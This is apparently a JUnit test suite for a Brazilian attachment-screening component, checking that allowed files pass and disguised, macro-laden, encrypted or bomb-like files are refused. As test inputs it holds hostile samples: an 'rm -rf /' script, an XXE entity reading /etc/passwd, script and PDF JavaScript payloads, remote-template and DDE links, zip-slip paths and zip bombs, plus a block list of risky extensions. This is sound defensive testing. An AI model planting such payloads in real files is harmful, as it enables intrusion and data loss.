package br.central.anexos.exame;

import static br.central.anexos.exame.ArquivosDeTeste.EXCEL;
import static br.central.anexos.exame.ArquivosDeTeste.EXE;
import static br.central.anexos.exame.ArquivosDeTeste.PNG;
import static br.central.anexos.exame.ArquivosDeTeste.WORD;
import static br.central.anexos.exame.ArquivosDeTeste.doc;
import static br.central.anexos.exame.ArquivosDeTeste.eml;
import static br.central.anexos.exame.ArquivosDeTeste.hexa;
import static br.central.anexos.exame.ArquivosDeTeste.msg;
import static br.central.anexos.exame.ArquivosDeTeste.odf;
import static br.central.anexos.exame.ArquivosDeTeste.office;
import static br.central.anexos.exame.ArquivosDeTeste.ole;
import static br.central.anexos.exame.ArquivosDeTeste.pdf;
import static br.central.anexos.exame.ArquivosDeTeste.pdfComAcao;
import static br.central.anexos.exame.ArquivosDeTeste.pdfComSenha;
import static br.central.anexos.exame.ArquivosDeTeste.relacao;
import static br.central.anexos.exame.ArquivosDeTeste.repetido;
import static br.central.anexos.exame.ArquivosDeTeste.texto;
import static br.central.anexos.exame.ArquivosDeTeste.xls;
import static br.central.anexos.exame.ArquivosDeTeste.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import br.central.anexos.exame.ArquivoRecusado.Motivo;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

class ExameDeArquivosTest {

    private static final LimitesDoExame LIMITES = new LimitesDoExame(3, DataSize.ofMegabytes(200), 5000, 100);
    private static final byte[] JPEG = hexa("ffd8ffe000104a46494600010100", 64);

    @TempDir
    Path pasta;

    private ExameDeArquivos.Aceito examinar(String nome, byte[] bytes) throws IOException {
        return new ExameDeArquivos(LIMITES).examinar(nome, Files.write(pasta.resolve("arquivo"), bytes));
    }

    private void recusa(String nome, byte[] bytes, Motivo motivo) {
        assertThatThrownBy(() -> examinar(nome, bytes))
                .as(nome)
                .isInstanceOfSatisfying(
                        ArquivoRecusado.class,
                        recusado -> assertThat(recusado.motivo())
                                .as(recusado.getMessage())
                                .isEqualTo(motivo));
    }

    static Stream<Arguments> aceitos() {
        return Stream.of(
                Arguments.of("boleto.pdf", pdf(), "application/pdf"),
                Arguments.of("nota.txt", texto("Olá, João"), "text/plain"),
                Arguments.of("lista.csv", texto("a;b;c\n1;2;3\n"), "text/csv"),
                Arguments.of("lista.csv", texto("ID;PROTOCOLO;NOME\n1;2;Ana\n"), "text/csv"),
                Arguments.of("lista.csv", "\uFEFFa;b".getBytes(StandardCharsets.UTF_16LE), "text/csv"),
                Arguments.of("lista.txt", "José".getBytes(StandardCharsets.ISO_8859_1), "text/plain"),
                Arguments.of(
                        "lote.xml",
                        texto(
                                "<?xml version=\"1.0\"?><ans:mensagemTISS xmlns:ans=\"http://www.ans.gov.br/padroes/tiss/schemas\"/>"),
                        "application/xml"),
                Arguments.of(
                        "nfe.xml", texto("<nfeProc xmlns=\"http://www.portalfiscal.inf.br/nfe\"/>"), "application/xml"),
                Arguments.of("sem-extensao", texto("só um texto"), "text/plain"),
                Arguments.of("dados.json", texto("{\"a\": 1}"), "application/json"),
                Arguments.of("carta.rtf", texto("{\\rtf1\\ansi Olá}"), "application/rtf"),
                Arguments.of("foto.png", PNG, "image/png"),
                Arguments.of("foto", PNG, "image/png"),
                Arguments.of("FOTO.JPG", JPEG, "image/jpeg"),
                Arguments.of("foto.jfif", JPEG, "image/jpeg"),
                Arguments.of("pedido.doc", doc(), "application/msword"),
                Arguments.of("conta.xls", xls(0), "application/vnd.ms-excel"),
                Arguments.of("a.docx", office(WORD), Formato.DOCX.tipo()),
                Arguments.of("a.xlsx", office(EXCEL), Formato.XLSX.tipo()),
                Arguments.of("a.odt", odf("text"), Formato.ODT.tipo()),
                Arguments.of("a.ods", odf("spreadsheet"), Formato.ODS.tipo()),
                Arguments.of("a.msg", msg("laudo.pdf", pdf()), "application/vnd.ms-outlook"),
                Arguments.of("a.eml", eml("laudo.pdf", pdf()), "message/rfc822"),
                Arguments.of("a.zip", zip("a.txt", "oi", "dentro/b.zip", zip("laudo.pdf", pdf())), "application/zip"),
                Arguments.of("log.txt", texto("2026-11-27 <script> não fechado\n"), "text/plain"),
                Arguments.of(
                        "mac.zip",
                        zip("a.txt", "oi", "__MACOSX/._a.txt", hexa("0005160700020000", 120)),
                        "application/zip"));
    }

    @ParameterizedTest(name = "{0} {2}")
    @MethodSource("aceitos")
    void aceitaOQueEstaNaLista(String nome, byte[] bytes, String tipo) throws IOException {
        assertThat(examinar(nome, bytes)).isEqualTo(new ExameDeArquivos.Aceito(nome, tipo));
    }

    @ParameterizedTest
    @CsvSource({
        // OggS … OpusHead: a voice message as telephones record it
        "recado.ogg, 4f67675300020000000000000000000000000000000000000000011 34f70757348656164",
        "recado.opus, 4f67675300020000000000000000000000000000000000000000011 34f70757348656164",
        "video.mp4, 000000186674797069736f6d0000020069736f6d",
        "video.mp4, 00000018667479706d703432000000006d703432",
        "recado.m4a, 0000001c667479704d344120000000004d344120",
        "recado.3gp, 00000018667479703367703400000000",
        "recado.amr, 2321414d520a",
        "foto.heic, 00000018667479706865696300000000",
        "foto.heic, 00000018667479706d69663100000000",
        "ligacao.mp3, 49443303000000000000",
        "ligacao.mp3, fffb90640000",
        "ligacao.wav, 524946462400000057415645666d7420",
        "figura.gif, 474946383961",
        "figura.bmp, 424d360000000000000036000000280000000100000001000000010018000000",
        "figura.webp, 524946462400000057454250",
        "figura.tif, 49492a0008000000"
    })
    void aceitaImagensEGravacoes(String nome, String hexadecimal) throws IOException {
        assertThat(examinar(nome, hexa(hexadecimal, 1024)).nome()).isEqualTo(nome);
    }

    @Test
    void aExtensaoDeUmaIrmaEACerta() throws IOException {
        assertThat(examinar("foto.jpg", PNG).nome()).isEqualTo("foto.png");
        assertThat(examinar("carta.doc", texto("{\\rtf1\\ansi}")).nome()).isEqualTo("carta.rtf");
        assertThat(examinar("carta.doc", office(WORD)).nome()).isEqualTo("carta.docx");
        assertThat(examinar("foto.jpeg", JPEG).nome()).isEqualTo("foto.jpeg");
    }

    /** Of these nothing is said anywhere: they are simply not on the list. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a.scf",
                "a.iqy",
                "a.slk",
                "a.url",
                "a.lnk",
                "a.settingcontent-ms",
                "a.library-ms",
                "a.searchconnector-ms",
                "a.appref-ms",
                "a.diagcab",
                "a.exe",
                "a.bat",
                "a.cmd",
                "a.ps1",
                "a.vbs",
                "a.js",
                "a.hta",
                "a.html",
                "a.svg",
                "a.mht",
                "a.jar",
                "a.iso",
                "a.img",
                "a.vhd",
                "a.one",
                "a.docm",
                "a.xlsm",
                "a.xlam",
                "a.dotm",
                "a.xlsb",
                "a.pub",
                "a.mdb",
                "a.rdp",
                "a.reg",
                "a.inf",
                "a.ics",
                "a.vcf",
                "a.desktop",
                "a.webloc",
                "a.rar",
                "a.7z",
                "a.gz",
                "a.tar",
                "a.p7s",
                "a.novidade"
            })
    void oQueNaoEstaNaListaNaoEntra(String nome) {
        recusa(nome, texto("[InternetShortcut]\r\nURL=file://servidor/x\r\n"), Motivo.TIPO);
        recusa("arquivo.zip", zip(nome, "x"), Motivo.TIPO);
        recusa("recado.msg", msg(nome, texto("x")), Motivo.TIPO);
        recusa("recado.eml", eml(nome, texto("x")), Motivo.TIPO);
    }

    static Stream<Arguments> disfarces() {
        return Stream.of(
                Arguments.of("boleto.pdf", PNG, Motivo.EXTENSAO),
                Arguments.of("laudo.txt", PNG, Motivo.EXTENSAO),
                Arguments.of("ligacao.mp3", PNG, Motivo.EXTENSAO),
                Arguments.of("foto.png", texto("texto comum"), Motivo.EXTENSAO),
                Arguments.of("boleto.pdf", texto("texto comum"), Motivo.EXTENSAO),
                Arguments.of("a.zip", office(WORD), Motivo.EXTENSAO),
                Arguments.of("a.xlsx", office(WORD), Motivo.EXTENSAO),
                Arguments.of("a.eml", texto("nada de e-mail"), Motivo.EXTENSAO),
                Arguments.of("foto.png", hexa("00010203fffe", 64), Motivo.TIPO),
                Arguments.of("captura", hexa("00010203fffe", 64), Motivo.TIPO),
                Arguments.of("boleto.pdf", EXE, Motivo.TIPO),
                Arguments.of("programa", EXE, Motivo.TIPO),
                Arguments.of("instalador.doc", ole("!_Columns", new byte[100]), Motivo.TIPO),
                Arguments.of("a.docx", zip("[Content_Types].xml", "<Types/>"), Motivo.TIPO),
                Arguments.of("a.zip", zip("AppManifest.xaml", "x"), Motivo.TIPO),
                Arguments.of("nota.txt", texto("<!DOCTYPE html><html><script>alert(1)</script></html>"), Motivo.CODIGO),
                Arguments.of("nota.txt", texto("#!/bin/sh\nrm -rf /"), Motivo.CODIGO),
                Arguments.of("script", texto("#!/usr/bin/env python"), Motivo.CODIGO),
                Arguments.of("nota.xml", texto("<svg xmlns='http://www.w3.org/2000/svg'></svg>"), Motivo.CODIGO),
                Arguments.of(
                        "nota.xml",
                        texto("<?xml version='1.0'?><?mso-application progid='Word.Document'?><w/>"),
                        Motivo.CODIGO),
                Arguments.of("nota.xml", texto("<?xml version='1.0'?><?xml-stylesheet href='x'?><a/>"), Motivo.CODIGO),
                Arguments.of(
                        "nota.xml",
                        texto("<a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>x</h:script></a>"),
                        Motivo.CODIGO),
                Arguments.of(
                        "nota.xml",
                        "\uFEFF<a xmlns:h='http://www.w3.org/1999/xhtml'/>".getBytes(StandardCharsets.UTF_16LE),
                        Motivo.CODIGO),
                Arguments.of(
                        "nota.xml",
                        texto("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
                        Motivo.CODIGO),
                Arguments.of("lista.csv", texto("ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\nE\n"), Motivo.CODIGO),
                Arguments.of("lista.csv", junto(texto("a;b\n".repeat(40_000)), EXE), Motivo.EXTENSAO));
    }

    @ParameterizedTest(name = "{0} {2}")
    @MethodSource("disfarces")
    void recusaDisfarces(String nome, byte[] bytes, Motivo motivo) {
        recusa(nome, bytes, motivo);
    }

    static Stream<Arguments> comMacrosOuObjetos() {
        byte[] vba = ole("VBA/_VBA_PROJECT", new byte[20]);
        byte[] pacote = ole("\1Ole10Native", EXE);
        return Stream.of(
                Arguments.of("a.docx", office(WORD, "word/vbaProject.bin", vba), Motivo.MACRO),
                Arguments.of("a.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml"), Motivo.MACRO),
                Arguments.of("a.xlsx", office(EXCEL, "xl/macrosheets/sheet1.xml", "<x/>"), Motivo.MACRO),
                Arguments.of("a.docx", office(WORD, "word/outro.bin", vba), Motivo.MACRO),
                Arguments.of("a.docx", office(WORD, "word/activeX/activeX1.bin", "x"), Motivo.OBJETO),
                Arguments.of("a.docx", office(WORD, "word/embeddings/oleObject1.bin", pacote), Motivo.OBJETO),
                Arguments.of("a.docx", office(WORD, "word/embeddings/x.bin", EXE), Motivo.OBJETO),
                Arguments.of("a.docx", office(WORD, "word/embeddings/x.zip", zip("a.js", "x")), Motivo.OBJETO),
                Arguments.of(
                        "a.docx",
                        office(WORD, "word/embeddings/x.xlsx", office(EXCEL, "xl/vbaProject.bin", vba)),
                        Motivo.MACRO),
                Arguments.of(
                        "a.docx",
                        office(
                                WORD,
                                "word/_rels/settings.xml.rels",
                                relacao("attachedTemplate", "https://mau.example/t.dotm")),
                        Motivo.EXTERNO),
                Arguments.of(
                        "a.docx",
                        office(
                                WORD,
                                "word/_rels/settings.xml.rels",
                                relacao("attachedTemplate", "file:///\\\\mau\\t.dotm")),
                        Motivo.EXTERNO),
                Arguments.of(
                        "a.docx",
                        office(WORD, "word/_rels/document.xml.rels", relacao("oleObject", "mhtml:https://mau.example")),
                        Motivo.EXTERNO),
                Arguments.of(
                        "a.docx",
                        office(WORD, "word/_rels/document.xml.rels", relacao("image", "file://servidor/x.png")),
                        Motivo.EXTERNO),
                Arguments.of(
                        "a.xlsx",
                        office(EXCEL, "xl/externalLinks/externalLink1.xml", "<x><ddeLink ddeService='cmd'/></x>"),
                        Motivo.EXTERNO),
                Arguments.of("a.doc", doc("Macros/VBA/_VBA_PROJECT", new byte[20]), Motivo.MACRO),
                Arguments.of("a.doc", doc("ObjectPool/_1/\1Ole10Native", EXE), Motivo.OBJETO),
                Arguments.of("a.doc", doc("ObjectPool/_1/Equation Native", new byte[20]), Motivo.OBJETO),
                Arguments.of(
                        "a.doc", doc("ObjectPool/_1/Package", office(EXCEL, "xl/vbaProject.bin", vba)), Motivo.MACRO),
                Arguments.of("a.xls", xls(0, "_VBA_PROJECT_CUR/VBA/dir", new byte[20]), Motivo.MACRO),
                Arguments.of("a.xls", xls(1), Motivo.MACRO),
                Arguments.of("a.ppt", ole("PowerPoint Document", slides(vba)), Motivo.MACRO),
                Arguments.of("a.odt", odf("text", "Basic/Standard/Module1.xml", "x"), Motivo.MACRO),
                Arguments.of("a.odt", odf("text", "Scripts/python/x.py", "x"), Motivo.MACRO),
                Arguments.of(
                        "a.odt",
                        odf("text", "styles.xml", "<script:event-listener xlink:href='vnd.sun.star.script:x'/>"),
                        Motivo.MACRO),
                Arguments.of("a.odt", odf("text", "Object 1", pacote), Motivo.OBJETO),
                Arguments.of("a.rtf", texto("{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"), Motivo.OBJETO),
                Arguments.of("a.rtf", texto("{\\rtf1{\\*\\template http://mau.example/t.dotm}}"), Motivo.OBJETO),
                Arguments.of("a.doc", texto("{\\rtf1{\\object\\objupdate}}"), Motivo.OBJETO),
                Arguments.of("a.pdf", pdfComAcao("JavaScript"), Motivo.CODIGO),
                Arguments.of("a.pdf", pdfComAcao("Launch"), Motivo.CODIGO),
                Arguments.of("a.pdf", pdfComJavaScriptEscondido(), Motivo.CODIGO),
                Arguments.of("a.pdf", pdfQueTraz("x.exe", EXE), Motivo.TIPO),
                Arguments.of("a.eml", assinado("virus.exe"), Motivo.TIPO),
                Arguments.of("a.zip", zip("b.docx", office(WORD, "word/vbaProject.bin", vba)), Motivo.MACRO),
                Arguments.of("a.eml", eml("b.docx", office(WORD, "word/vbaProject.bin", vba)), Motivo.MACRO),
                Arguments.of("a.msg", msg("b.doc", doc("Macros/VBA/dir", new byte[20])), Motivo.MACRO));
    }

    @ParameterizedTest(name = "{index} {0} {2}")
    @MethodSource("comMacrosOuObjetos")
    void oQueRodaERecusadoPeloConteudo(String nome, byte[] bytes, Motivo motivo) {
        recusa(nome, bytes, motivo);
    }

    @Test
    void oQueODocumentoApenasMostraFica() throws IOException {
        examinar(
                "a.docx", office(WORD, "word/_rels/document.xml.rels", relacao("hyperlink", "https://www.ans.gov.br")));
        examinar(
                "a.docx",
                office(WORD, "word/_rels/document.xml.rels", relacao("image", "https://exemplo.com.br/logo.png")));
        examinar(
                "a.docx",
                office(
                        WORD,
                        "word/_rels/settings.xml.rels",
                        relacao("attachedTemplate", "file:///C:\\Modelos\\Carta.dotx")));
        examinar("a.docx", office(WORD, "word/embeddings/Planilha.xlsx", office(EXCEL)));
        examinar("a.xlsx", office(EXCEL, "xl/printerSettings/printerSettings1.bin", new byte[300]));
        examinar("a.doc", doc("ObjectPool/_1/Package", office(EXCEL)));
        examinar("a.ppt", ole("PowerPoint Document", slides(xls(0))));
        examinar("a.pdf", pdfQueTraz("nfe.xml", texto("<nfeProc/>")));
        examinar("a.pdf", pdfComSenha(""));
        examinar("a.eml", assinado("smime.p7s"));
    }

    static Stream<Arguments> comSenha() {
        byte[] cifrado = doc();
        byte[] comSenha = zip("laudo.txt", "oi");
        // The flag of both headers of the entry.
        comSenha[6] |= 1;
        comSenha[indice(comSenha, new byte[] {'P', 'K', 1, 2}) + 8] |= 1;
        byte[] fib = new byte[4096];
        fib[11] = 1;
        byte[] livro = new byte[4096];
        livro[0] = 0x2f;
        return Stream.of(
                Arguments.of("a.docx", ole("EncryptedPackage", new byte[20], "EncryptionInfo", cifrado)),
                Arguments.of("a.zip", comSenha),
                Arguments.of("a.pdf", pdfComSenha("segredo")),
                Arguments.of("a.doc", ole("WordDocument", fib)),
                Arguments.of("a.xls", ole("Workbook", livro)),
                Arguments.of("a.odt", odf("text", "META-INF/manifest.xml", "<manifest:encryption-data/>")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("comSenha")
    void oQueTemSenhaERecusadoDizendoPorque(String nome, byte[] bytes) {
        recusa(nome, bytes, Motivo.SENHA);
        assertThatThrownBy(() -> examinar(nome, bytes)).hasMessageContaining("protegido por senha");
    }

    @Test
    void dizQualArquivoDeDentroNaoSeAceita() {
        byte[] tudo = zip("fotos/frente.png", PNG, "outros.zip", zip("leia.txt", "oi", "abrir.js", "x"));

        assertThatThrownBy(() -> examinar("a.zip", tudo)).hasMessageStartingWith("Em «outros.zip»: Em «abrir.js»: ");
    }

    @Test
    void olhaAteTresNiveis() throws IOException {
        byte[] tres = zip("c.zip", zip("b.zip", zip("a.txt", "oi")));

        examinar("d.zip", tres);
        recusa("e.zip", zip("d.zip", tres), Motivo.LIMITE);
    }

    @Test
    void bombasAcabamLogo() {
        byte[] zeros = zip("a.txt", repetido(60 * 1024 * 1024));
        byte[] muitas = zip(Stream.iterate(0, i -> i + 1)
                .limit(5001)
                .flatMap(i -> Stream.of("f" + i + ".txt", "x"))
                .toArray());
        ThreadMXBean medida = ManagementFactory.getThreadMXBean();
        long antes = medida.getCurrentThreadCpuTime();

        assertThat(zeros).hasSizeLessThan(100_000);
        recusa("a.zip", zeros, Motivo.LIMITE);
        recusa("b.zip", zip("a.zip", zeros, "b.zip", zeros), Motivo.LIMITE);
        recusa("c.docx", office(WORD, "word/_rels/a.rels", texto("<a>" + " ".repeat(60_000_000))), Motivo.LIMITE);
        recusa("d.zip", muitas, Motivo.LIMITE);
        assertThat((medida.getCurrentThreadCpuTime() - antes) / 1e9)
                .as("seconds of work, whatever else the machine does")
                .isLessThan(60);
    }

    @Test
    void oQueDoisProgramasLeriamDeDoisModosERecusado() {
        recusa("a.zip", zip("../a.txt", "oi"), Motivo.DANIFICADO);
        recusa("a.zip", zip("/etc/a.txt", "oi"), Motivo.DANIFICADO);
        recusa("a.zip", zip("A.txt", "oi", "a.txt", "ai"), Motivo.DANIFICADO);
        byte[] cortado = zip("a.txt", "oi");
        recusa("a.zip", Arrays.copyOf(cortado, cortado.length - 30), Motivo.DANIFICADO);
        recusa("a.pdf", texto("%PDF-1.7\nnada"), Motivo.DANIFICADO);
        recusa("a.doc", hexa("d0cf11e0a1b11ae1", 1024), Motivo.DANIFICADO);
    }

    @Test
    void naoDeixaNadaNoDisco() throws IOException {
        List<Path> antes = temporarios();
        examinar("a.zip", zip("b.zip", zip("laudo.pdf", pdf())));
        recusa("a.zip", zip("b.zip", zip("a.exe", EXE)), Motivo.TIPO);
        recusa("a.zip", zip("a.txt", repetido(60 * 1024 * 1024)), Motivo.LIMITE);

        assertThat(temporarios()).isSubsetOf(antes);
    }

    private static List<Path> temporarios() throws IOException {
        try (Stream<Path> arquivos = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return arquivos.filter(um -> um.getFileName().toString().startsWith(ArquivoTemporario.PREFIXO))
                    .toList();
        }
    }

    /** A record with an embedded compound file, as PowerPoint keeps both objects and macros. */
    private static byte[] slides(byte[] objeto) {
        byte[] cabeca = new byte[8];
        cabeca[2] = 0x11;
        cabeca[3] = 0x10;
        for (int i = 0; i < 4; i++) {
            cabeca[4 + i] = (byte) (objeto.length >> 8 * i);
        }
        return junto(cabeca, objeto);
    }

    private static byte[] pdfComJavaScriptEscondido() {
        return pdf(pdf -> {
            COSDictionary acao = new COSDictionary();
            acao.setItem(COSName.getPDFName("JS"), new COSString("app.alert(1)"));
            COSDictionary pagina = pdf.getPage(0).getCOSObject();
            COSDictionary acoes = new COSDictionary();
            acoes.setItem(COSName.O, acao);
            pagina.setItem(COSName.AA, acoes);
        });
    }

    private static byte[] pdfQueTraz(String nome, byte[] bytes) {
        return pdf(pdf -> {
            PDComplexFileSpecification arquivo = new PDComplexFileSpecification();
            arquivo.setFile(nome);
            arquivo.setEmbeddedFile(new PDEmbeddedFile(pdf, new ByteArrayInputStream(bytes), COSName.FLATE_DECODE));
            PDEmbeddedFilesNameTreeNode nomes = new PDEmbeddedFilesNameTreeNode();
            nomes.setNames(Map.of(nome, arquivo));
            PDDocumentNameDictionary indice = new PDDocumentNameDictionary(pdf.getDocumentCatalog());
            indice.setEmbeddedFiles(nomes);
            pdf.getDocumentCatalog().setNames(indice);
        });
    }

    private static byte[] assinado(String nome) {
        String eml = new String(eml(nome, EXE), StandardCharsets.ISO_8859_1);
        return texto(eml.replace("application/octet-stream", "application/pkcs7-signature"));
    }

    private static byte[] junto(byte[] um, byte[] outro) {
        byte[] todos = Arrays.copyOf(um, um.length + outro.length);
        System.arraycopy(outro, 0, todos, um.length, outro.length);
        return todos;
    }

    private static int indice(byte[] onde, byte[] oque) {
        return new String(onde, StandardCharsets.ISO_8859_1).indexOf(new String(oque, StandardCharsets.ISO_8859_1));
    }
}
